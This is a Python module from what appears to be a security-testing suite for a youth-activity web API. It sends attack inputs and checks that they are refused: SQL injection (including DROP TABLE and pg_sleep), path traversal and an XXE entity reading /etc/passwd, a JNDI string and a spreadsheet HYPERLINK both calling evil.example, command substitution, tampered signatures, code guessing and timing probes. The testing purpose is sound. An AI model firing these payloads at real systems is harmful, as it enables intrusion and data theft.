"""Input that means something else than it seems: SQL, paths, formulas, JSON of every bad kind, tampered cursors and signatures."""

from __future__ import annotations

import json
import re
import secrets
import statistics
import time
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx

from .report import Report
from .target import Operation, Target, is_refused

INJECTION, DOCUMENTS, TAMPERING, GUESSES, SHEETS = (
    "Injection, into every parameter and field of the document", "JSON and content types", "Tampered cursors, ETags and signatures", "Guesses",
    "Spreadsheets",
)  # fmt: skip
PAYLOADS = (
    "' OR '1'='1' --", "'; DROP TABLE person; --", "1 AND (SELECT 1 FROM pg_sleep(5))", '" UNION SELECT secret FROM wechat_token --',
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%00", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<script>alert(1)</script>",
    "a\r\nSet-Cookie: x=1", "%c0%ae%c0%ae/", "\u202egnp.exe", "$(id)", "%n%n%n%s", "'||(SELECT pg_sleep(5))||'",
)  # fmt: skip
# What shows that something was executed or told that must not be.
SHOWN = re.compile(
    r"root:.*:0:0:|Traceback|psycopg|sqlite3?\.|syntax error|SELECT .* FROM|pg_sleep\b.*ERROR|File \"|OperationalError|ProgrammingError", re.DOTALL
)  # fmt: skip
SLOW_SECONDS = 4.0


def attempts(target: Target, report: Report, payloads: tuple[str, ...] = PAYLOADS) -> None:
    """Try them all."""
    for operation in target.operations:
        _inject(target, report, operation, payloads)
    _documents(target, report)
    _tampering(target, report)
    _guesses(target, report)
    _sheets(target, report)
    _timing(target, report)


def _inject(target: Target, report: Report, operation: Operation, payloads: tuple[str, ...]) -> None:
    answers: list[httpx.Response] = []
    found: list[str] = []
    for payload in payloads:
        for who, request in _places(target, operation, payload):
            began = time.perf_counter()
            answer = target.call(operation, who, **request)
            answers.append(answer)
            if answer.status_code >= 500 or "set-cookie" in answer.headers:
                found.append(f"{answer.status_code} to {payload!r}")
            if SHOWN.search(answer.text.replace(payload, "")) or time.perf_counter() - began > SLOW_SECONDS:
                found.append(f"executed? {payload!r}")
    if answers:
        report.add_many(INJECTION, operation.name, answers, not found)
        report.notes += [f"{operation.name}: {each}" for each in found]


def _places(target: Target, operation: Operation, payload: str) -> list[tuple[str | None, dict[str, Any]]]:
    """Return requests with the payload in each place in turn; nothing is changed by them, for one place at least is wrong."""
    who = "manager" if operation.needs_log_in else None
    quoted = httpx.URL("http://x/", params={"q": payload}).query.decode()[2:]
    found: list[dict[str, Any]] = [
        {"path": target.path_of(operation, **{name: quoted})} for name in operation.ids
    ]
    found += [
        {"params": {**operation.query(), each["name"]: payload}}
        for each in operation.parameters
        if each["in"] == "query"
    ]
    found += [
        {"json": {**(operation.body or {}), name: payload, "no_such_field": 1}}
        for name in operation.properties
    ]
    found += [
        {"headers": {each["name"]: quoted}}
        for each in operation.parameters
        if each["in"] == "header" and operation.method == "GET"
    ]
    return [(who, request) for request in found]


def _documents(target: Target, report: Report) -> None:
    path, who = "/v1/me", "youth"

    def put(body: bytes, **headers: str) -> httpx.Response:
        return target.send(
            "PUT", path, who, content=body, headers={"Content-Type": "application/json", **headers}
        )

    good = b'{"name": "x", "gender": "female", "birth_on": "2006-03-05", "hometown_code": "140502", "current_code": "140502"}'
    for what, body in {
        "2 MB": b'{"name": "' + b"x" * 2**21 + b'"}',
        "100,000 lists in each other": b"[" * 100_000 + b"]" * 100_000,
        "1,000 objects in each other": b'{"a":' * 1000 + b"1" + b"}" * 1000,
        "20 lists in each other": b"[" * 20 + b"]" * 20,
        "a number of 5,000 digits": b'{"name": ' + b"9" * 5000 + b"}",
        "1e400": b'{"name": 1e400}', "NaN": b'{"name": NaN}',
        "a name twice": good.replace(b'{"name"', b'{"name": "y", "name"'),
        "half a surrogate": b'{"name": "\\ud800"}', "bytes that are no UTF-8": b'{"name": "\xff\xfe"}',
        "UTF-16": good.decode().encode("utf-16"), "a byte order mark": b"\xef\xbb\xbf" + good,
        "two documents": good + good, "a comment": good + b"// x", "NUL in a text": good.replace(b'"x"', b'"x\\u0000y"'),
        "nothing": b"", "a list": b"[]", "null": b"null",
    }.items():  # fmt: skip
        answer = put(body)
        report.add(DOCUMENTS, what, answer, is_refused(answer))
    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><name>&e;</name>'
    for kind, body in {
        "text/plain": good, "application/x-www-form-urlencoded": b"name=x&gender=female", "multipart/form-data; boundary=x": good,
        "application/xml": xml, "application/json-patch+json": b"[]", "application/jsonx": good, "text/json": good, "": good,
    }.items():  # fmt: skip
        answer = put(body, **{"Content-Type": kind})
        report.add(DOCUMENTS, f"Content-Type {kind or 'left out'}", answer, answer.status_code == 415)
    answer = put(good, **{"Content-Encoding": "gzip"})
    report.add(DOCUMENTS, "said to be gzip", answer, is_refused(answer) or answer.status_code == 200)


def _tampering(target: Target, report: Report) -> None:
    first = target.send("GET", "/v1/hubs", params={"limit": 1}).json()["next_cursor"] or "AAAA.BBBB"
    altered = first[:3] + ("A" if first[3] != "A" else "B") + first[4:]
    for what, path, query in (
        ("a letter changed", "/v1/hubs", {"limit": 1, "cursor": altered}),
        ("its signature cut off", "/v1/hubs", {"limit": 1, "cursor": first.rpartition(".")[0]}),
        ("of another list", "/v1/projects", {"limit": 1, "cursor": first}),
        ("of another question", "/v1/hubs", {"limit": 1, "cursor": first, "county": "140524"}),
        ("made up", "/v1/hubs", {"cursor": "WyIxIl0.AAAAAAAAAAAAAAAAAAAAAAAAAAA"}),
    ):
        answer = target.send("GET", path, params=query)
        report.add(TAMPERING, f"a cursor, {what}", answer, answer.status_code == 422)
    own = target.operation("edit_activity")
    for tag in (
        '"999999-0000000000000000"',
        "W/x",
        '"1-x", "2-x"',
        "'",
        '"-1-a"',
        '"18446744073709551616-a"',
    ):
        answer = target.call(own, "manager", headers={"If-Match": tag})
        report.add(TAMPERING, f"If-Match {tag} on an edit", answer, is_refused(answer))
    home = target.send("GET", "/v1/home", "youth").headers["etag"]
    answer = target.send("GET", "/v1/home", "manager", headers={"If-None-Match": home})
    report.add(TAMPERING, "somebody else's ETag of the home screen", answer, answer.status_code == 200)
    scanned = {
        "person_id": target.ids.get("person_id", ["0199f0c2-b7a0-7c3f-9f5d-2f7a1c3e5b7d"])[0],
        "scanned_at": datetime.now(UTC).isoformat(),
    }
    upload = target.operation("upload_check_ins")
    for signature in ("x", "e30.AAAA.BBBB", "WyIxIl0.AAAAAAAAAAAAAAAAAAAAAAAAAAA"):
        answer = target.call(upload, "manager", json={"items": [scanned], "roster_signature": signature})
        report.add(TAMPERING, f"check-ins under a roster signed {signature}", answer, is_refused(answer))


def _guesses(target: Target, report: Report) -> None:
    alphabet = "23456789ABCDEFGHJKLMNPQRSTUVWXYZ"

    def guess(length: int) -> str:
        return "".join(secrets.choice(alphabet) for _ in range(length))

    answers = [target.send("GET", f"/v1/certificates/{guess(24)}") for _ in range(50)]
    report.add_many(GUESSES, "codes of certificates", answers, all(map(is_refused, answers)))
    check_in = target.operation("check_in")
    answers = [target.call(check_in, "youth", json={"code": guess(8)}) for _ in range(50)]
    report.add_many(GUESSES, "codes of a check-in", answers, all(map(is_refused, answers)))
    answers = [target.send("POST", "/v1/auth/wechat/login", json={"code": guess(32)}) for _ in range(5)]
    report.add_many(
        GUESSES, "codes of a log-in", answers, all(answer.status_code != 200 for answer in answers)
    )


def _sheets(target: Target, report: Report) -> None:
    """Answers with formulas, exported by staff."""
    formulas = ('=HYPERLINK("http://evil.example")', "+cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "\t=1", "＝1+1")
    activity = _activity_that_asks(target)
    if activity is None:
        report.notes.append(
            "Spreadsheets: the demo's manager could not publish an activity, so its export was not tried."
        )
        return
    question = target.send("GET", f"/v1/activities/{activity}").json()["questions"][0]["id"]
    cells: list[str] = []
    for formula in formulas:
        answers = [{"question_id": question, "value": formula}]
        target.send("DELETE", f"/v1/activities/{activity}/sign-up", "youth")
        sent = target.send("PUT", f"/v1/activities/{activity}/sign-up", "youth", json={"answers": answers})
        exported = target.send("GET", f"/v1/activities/{activity}/sign-ups/export", "manager")
        cells += [
            cell
            for cell in re.split(r"[,\r\n]", exported.text.replace('"', ""))
            if cell[:1] in "=+-@\t＝＋－＠" and cell
        ]
        report.add(
            SHEETS,
            f"the answer {formula!r} in an export",
            f"{sent.status_code}, {exported.status_code}",
            not cells,
        )
    target.send("DELETE", f"/v1/activities/{activity}/sign-up", "youth")


def _activity_that_asks(target: Target) -> str | None:
    for known in target.ids.get("activity_id", []):
        model = target.send("GET", f"/v1/activities/{known}", "manager").json()
        now = datetime.now(UTC)
        body = {
            "title": "安全演练", "project_id": model["project"]["id"], "hub_id": (model.get("hub") or {}).get("id"),
            "org_id": (model.get("org") or {}).get("id"), "starts_at": (now + timedelta(days=20)).isoformat(),
            "ends_at": (now + timedelta(days=20, hours=2)).isoformat(), "sign_up_opens_at": (now - timedelta(minutes=1)).isoformat(),
            "sign_up_closes_at": (now + timedelta(days=19)).isoformat(), "capacity": 5,
            "questions": [{"kind": "text", "label": "备注", "required": True}],
        }  # fmt: skip
        made = target.send("POST", "/v1/activities", "manager", json=body)
        if made.status_code != 201:
            continue
        name = made.json()["id"]
        headers = {"If-Match": "*"}
        published = target.send("POST", f"/v1/activities/{name}/publication", "manager", headers=headers)
        return name if published.status_code in (200, 204) else None
    return None


def _timing(target: Target, report: Report) -> None:
    """Say how long it takes to be refused where something exists and where nothing does. A report: a network adds more."""

    def median(*tokens: str) -> float:
        spent = []
        for token in tokens:
            began = time.perf_counter()
            target.send("GET", "/v1/statistics/participation", headers={"Authorization": f"Bearer {token}"})
            spent.append((time.perf_counter() - began) * 1000)
        return statistics.median(spent)

    good = target.tokens["youth"]
    head = good.rsplit(".", 1)[0]
    forged = [f"{head}.{secrets.token_urlsafe(64)}" for _ in range(30)]
    made_up = [
        f"{secrets.token_urlsafe(20)}.{secrets.token_urlsafe(40)}.{secrets.token_urlsafe(64)}"
        for _ in range(30)
    ]
    refresh = []
    for length in (32, 32):
        began = time.perf_counter()
        for _ in range(15):
            target.send("POST", "/v1/auth/refresh", content=json.dumps({"refresh_token": secrets.token_urlsafe(length)}), headers={"Content-Type": "application/json"})  # fmt: skip
        refresh.append((time.perf_counter() - began) / 15 * 1000)
    report.notes.append(
        f"Timing (ms, median of 30; only told): a token of a person who exists with a wrong signature {median(*forged):.1f}, one that "
        f"is made up {median(*made_up):.1f}; refresh tokens that are none, twice the same question: {refresh[0]:.1f} and {refresh[1]:.1f}. A log-in "
        "names nobody: WeChat's code decides, so there is no account to be found out by it."
    )
